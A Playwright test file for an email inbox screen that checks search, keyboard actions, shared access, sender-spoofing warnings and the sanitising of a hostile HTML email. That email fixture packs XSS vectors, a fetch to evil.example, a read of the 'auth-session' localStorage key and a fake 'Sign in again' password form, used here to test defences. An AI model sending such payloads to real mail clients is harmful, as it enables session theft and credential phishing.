import type { Page, Route } from "@playwright/test";

import { expectAccessible } from "./kit/axe.ts";
import { joinWorkspace, openSignedIn } from "./kit/colleagues.ts";
import { makeConversation, makeMailbox, noteEvent } from "./kit/mail.ts";
import { changeRow, expectRow, makeRows, readRow } from "./kit/rows.ts";
import { expect, register, test } from "./kit/test.ts";

const nadia = { name: "Nadia Wong", address: "nadia@oak.example" };
const screen = "/dashboard/communication-tools";
const rows = (page: Page) => page.getByRole("list", { name: "Conversations" }).getByRole("link");
const row = (page: Page, subject: string) => rows(page).filter({ hasText: subject });
const reading = (page: Page, subject: string) => page.getByRole("region", { name: subject });

test("without a mailbox, the screen explains why to connect one and links to the settings @deep", async ({ page }) => {
  await register(page);
  await page.goto(screen);
  await expect(page.getByRole("heading", { name: "Your email, next to your customers" })).toBeVisible();
  await expect(page.getByRole("link", { name: "Connect an email account" })).toHaveAttribute(
    "href",
    "/dashboard/email-forwarding",
  );
});

test("a conversation is found by search, read with collapsed quotes, and shows its activity", async ({ page }) => {
  await register(page);
  const mailbox = await makeMailbox(page);
  const { id, emails } = await makeConversation(page, mailbox, {
    from: nadia,
    subject: "Desks",
    is_unread: true,
    said: [
      { text: "When do the desks arrive?", at: "2026-03-02T09:00:00Z" },
      { text: "Next week.", isOurs: true, at: "2026-03-02T10:00:00Z" },
      {
        text: "Thank you!\n\nOn Mon, Ada wrote:\n\n> Next week.\n",
        at: "2026-03-02T11:00:00Z",
        authentication: { spf: "none", dkim: "none", dmarc: "fail" },
      },
    ],
  });
  await makeConversation(page, mailbox, {
    from: { name: "Jonas", address: "jonas@elm.example" },
    subject: "Chairs",
    said: [{ text: "Hello" }],
  });
  await noteEvent(page, {
    mailbox_id: mailbox,
    email_id: emails[2],
    action: "forwarded",
    details: { to: "books@oak.example" },
    rule_id: crypto.randomUUID(),
  });
  await page.goto(screen);
  await expect(rows(page)).toHaveCount(2);
  // The first conversation is shown next to the list, but stays unread until it is opened.
  await expect(reading(page, "Desks").getByText("Thank you!")).toBeVisible();
  await expect(row(page, "Desks")).toContainText("Unread.");
  const folders = page.getByRole("group", { name: "Folder" });
  await folders.getByRole("button", { name: "Unread 1" }).click();
  await expect(rows(page)).toHaveCount(1);
  await folders.getByRole("button", { name: "Inbox 2" }).click();
  await page.keyboard.press("/");
  await page.keyboard.type("when arrive");
  await expect(rows(page)).toHaveCount(1);
  await expect(page).toHaveURL(/q=when/);
  await row(page, "Desks").click();
  const conversation = reading(page, "Desks");
  await expect(conversation.getByText("Thank you!")).toBeVisible();
  await expect(conversation.getByText("This email may not be from nadia@oak.example")).toBeVisible();
  await expect(conversation.getByText("Forwarded to books@oak.example because a rule matched.")).toBeVisible();
  await expect(conversation.getByText("> Next week.")).toBeHidden();
  await conversation.getByRole("button", { name: "Show quoted text" }).click();
  await expect(conversation.getByText("> Next week.")).toBeVisible();
  await conversation.getByRole("button", { name: /Nadia Wong When do the desks/ }).click();
  await expect(conversation.getByText("When do the desks arrive?", { exact: true }).last()).toBeVisible();
  await expectRow(page, "conversations", id, { is_unread: false });
  await expect(row(page, "Desks")).not.toContainText("Unread.");
  await expectAccessible(page);
});

test("a sender whose name is another address is shown by their own address, and multiple senders are flagged @deep", async ({
  page,
}) => {
  await register(page);
  await makeConversation(page, await makeMailbox(page), {
    from: { name: "boss@vanda.example", address: "attacker@evil.example" },
    subject: "Pay this",
    said: [{ text: "Now", signals: { otherSenders: ["lee@oak.example"] } }],
  });
  await page.goto(screen);
  await expect(row(page, "Pay this")).toContainText("attacker@evil.example");
  await expect(row(page, "Pay this")).not.toContainText("boss@vanda.example");
  await row(page, "Pay this").click();
  const mail = reading(page, "Pay this").getByRole("article", { name: "attacker@evil.example" });
  // The panel for creating a contact, next to the email, does not show the address either.
  await expect(page.getByText("boss@vanda.example", { exact: true })).toHaveCount(0);
  await expect(mail).toContainText("The sender name “boss@vanda.example” looks like another address.");
  await expect(mail).toContainText("This email lists several senders: attacker@evil.example and lee@oak.example.");
  await expectAccessible(page);
});

test("conversations are moved out of the inbox by keyboard, and each step is undone from its toast @deep", async ({
  page,
}) => {
  await register(page);
  const mailbox = await makeMailbox(page);
  for (const [index, subject] of ["Third", "Second", "First"].entries())
    await makeConversation(page, mailbox, {
      from: nadia,
      subject,
      said: [{ text: "Hello", at: `2026-03-0${index + 1}T09:00:00Z` }],
    });
  await page.goto(screen);
  await expect(rows(page)).toHaveCount(3);
  // The first conversation is shown already.
  await page.keyboard.press("j");
  await expect(row(page, "Second")).toBeFocused();
  await page.keyboard.press("k");
  await expect(row(page, "First")).toBeFocused();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("u");
  await expect(row(page, "Second")).toContainText("Unread.");
  await page.keyboard.press("e");
  await expect(rows(page)).toHaveCount(2);
  await expect(row(page, "Third")).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(reading(page, "Third")).toBeVisible();
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(rows(page)).toHaveCount(3);
  await page.getByRole("group", { name: "Folder" }).getByRole("button", { name: "Done" }).click();
  await expect(page.getByText("No conversations match")).toBeVisible();
});

test("a key pressed while the mailboxes of the inbox load is not lost @deep", async ({ page }) => {
  await register(page);
  await makeConversation(page, await makeMailbox(page), { from: nadia, subject: "Desks", said: [{ text: "Hello" }] });
  const held = Promise.withResolvers<void>();
  await page.route(/rest\/v1\/mailboxes/, async (route) => {
    await held.promise;
    await route.continue();
  });
  const listed = page.waitForResponse(/rest\/v1\/conversations/);
  await page.goto(screen);
  await (await listed).finished();
  await expect(page.getByRole("list", { name: "Conversations" })).toBeVisible();
  await expect(rows(page)).toHaveCount(0);
  held.resolve();
  await expect(rows(page)).toHaveCount(1);
  await page.keyboard.press("j");
  await page.keyboard.press("u");
  await expect(row(page, "Desks")).toContainText("Unread.");
});

test("several conversations are moved to trash together, and new ones appear automatically @deep", async ({ page }) => {
  await register(page);
  const mailbox = await makeMailbox(page);
  for (const subject of ["One", "Two", "Three"])
    await makeConversation(page, mailbox, { from: { ...nadia, name: subject }, subject, said: [{ text: "Hello" }] });
  await page.goto(screen);
  await page.getByRole("checkbox", { name: "Select One" }).click();
  await page.getByRole("button", { name: "Select all 3" }).click();
  const bar = page.getByRole("toolbar", { name: "Selected conversations" });
  await bar.getByRole("button", { name: "Move to trash" }).click();
  await expect(page.getByText("3 moved to trash")).toBeVisible();
  await expect(page.getByText("All caught up")).toBeVisible();
  await makeConversation(page, mailbox, { from: nadia, subject: "New", said: [{ text: "Hello" }] });
  await expect(row(page, "New")).toBeVisible();
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(rows(page)).toHaveCount(4);
});

test("a colleague reads the emails of known contacts in a linked mailbox, and cannot move them @deep", async ({
  page,
  browser,
  baseURL,
}) => {
  await register(page);
  const mailbox = await makeMailbox(page, { sharing: "linked" });
  const guest = await openSignedIn(browser, baseURL);
  await joinWorkspace(guest.page, page, "member");
  const [contact] = await makeRows(page, "contacts", [{ name: "Nadia Wong" }]);
  const unknown = await makeConversation(page, mailbox, { from: nadia, subject: "Desks", said: [{ text: "Hello" }] });
  await guest.page.goto(screen);
  await expect(guest.page.getByText("All caught up")).toBeVisible();
  await changeRow(page, "conversations", unknown.id, { contact_id: contact?.id });
  await row(guest.page, "Desks").click();
  await expect(guest.page.getByText("You have read-only access to this conversation.")).toBeVisible();
  await expect(guest.page.getByRole("button", { name: "Mark as done" })).toHaveCount(0);
  expect((await readRow(page, "conversations", unknown.id)).version).toBe(2);
  await guest.context.close();
});

const hostile = (port: string) => `<!doctype html><html><head>
  <base href="https://evil.example/">
  <meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
  <link rel="stylesheet" href="https://evil.example/style.css"><link rel="dns-prefetch" href="https://evil.example">
  <style>@import "https://evil.example/import.css"; @font-face{font-family:x;src:url(https://evil.example/font)} body{background:url(https://evil.example/css)} input[value^=a]{background:url(https://evil.example/leak)}</style>
  </head><body onload="parent.pwned=1">
  <h1>Hostile</h1><script>parent.pwned=1;top.location="https://evil.example/top";fetch("https://evil.example/fetch");localStorage.getItem("auth-session")</script>
  <img src="https://evil.example/pixel.gif" onerror="parent.pwned=1"><svg onload="parent.pwned=1"><script>parent.pwned=1</script><image href="https://evil.example/svg"/></svg>
  <iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://evil.example/object"></object><video src="https://evil.example/video" autoplay></video>
  <form action="https://evil.example/form"><input name="password" value="abc"><button>Sign in again</button></form>
  <a href="javascript:parent.pwned=1">Run</a> <a href="https://fine.example:${port}/page" target="_self" rel="opener">Our page</a></body></html>`;

/** Records requests to other hosts, and any script of an email that ran. */
async function watch(page: Page) {
  const asked: string[] = [];
  const own = new URL(page.url()).origin;
  // Requests blocked by a policy are not seen here.
  await page.context().route(
    (url) => url.origin !== own,
    async (route) => {
      asked.push(route.request().url());
      await route.abort();
    },
  );
  page.on("dialog", (dialog) => asked.push(`dialog ${dialog.message()}`));
  return {
    asked,
    async expectNothing() {
      expect(asked).toEqual([]);
      expect(await page.evaluate(() => "pwned" in window)).toBe(false);
      expect(new URL(page.url()).origin).toBe(own);
    },
  };
}

async function openHostile(page: Page) {
  await register(page);
  const mailbox = await makeMailbox(page);
  const { id } = await makeConversation(page, mailbox, {
    from: nadia,
    subject: "Hostile",
    said: [{ text: "Hello", html: hostile("1") }],
  });
  const watched = await watch(page);
  await page.goto(`${screen}?conversation=${id}`);
  return watched;
}
const showDesigned = (page: Page) => page.getByRole("button", { name: "Show with formatting" }).click();
const frame = (page: Page) => page.frameLocator("article iframe");

test("a hostile email runs no scripts, loads nothing, and its links only open new tabs", async ({ page, context }) => {
  const watched = await openHostile(page);
  await showDesigned(page);
  await expect(frame(page).getByRole("heading", { name: "Hostile" })).toBeVisible();
  await expect(
    frame(page).locator("script, form, input, iframe, object, svg, video, meta[http-equiv], base"),
  ).toHaveCount(0);
  await frame(page).getByText("Run").click();
  await watched.expectNothing();
  // External links open in a new tab, without opener or referrer.
  await context.route("https://fine.example:1/**", (route) =>
    route.fulfill({ contentType: "text/html", body: "<p>Outside</p>" }),
  );
  const opened = context.waitForEvent("page");
  await frame(page).getByRole("link", { name: "Our page" }).click();
  const outside = await opened;
  await expect(outside.getByText("Outside")).toBeVisible();
  expect(await outside.evaluate(() => [opener, document.referrer])).toEqual([null, ""]);
});

test.describe("even if an email is not sanitised", () => {
  // Chromium logs blocked requests.
  test.use({ allowedConsole: /Refused|blocked|violates|Blocked|sandboxed|Content Security Policy|ERR_/i });

  test("the email's frame and the page's headers block scripts, requests and forms @deep", async ({
    page,
    context,
  }) => {
    const asIs = async (route: Route) => route.fulfill({ response: await route.fetch(), body: hostile("2") });
    await context.route(/\/functions\/v1\/emails\/[^/]+\/page\?.*signature/, asIs);
    const watched = await openHostile(page);
    await showDesigned(page);
    await expect(frame(page).getByRole("heading", { name: "Hostile" })).toBeVisible();
    await frame(page).getByRole("button", { name: "Sign in again" }).click();
    await frame(page).getByRole("link", { name: "Run" }).click();
    await watched.expectNothing();
    await expect(frame(page).getByRole("heading", { name: "Hostile" })).toBeVisible();
  });
});

test("on a phone, the list and a conversation are separate screens @deep", async ({ page }) => {
  await page.setViewportSize({ width: 375, height: 700 });
  await register(page);
  const mailbox = await makeMailbox(page);
  await makeConversation(page, mailbox, { from: nadia, subject: "Desks", said: [{ text: "Hello" }] });
  await page.goto(screen);
  await row(page, "Desks").click();
  await expect(reading(page, "Desks")).toBeVisible();
  await expect(rows(page).first()).toBeHidden();
  await page.getByRole("link", { name: "All conversations" }).click();
  await expect(row(page, "Desks")).toBeVisible();
  await page.goBack();
  await expect(reading(page, "Desks")).toBeVisible();
});
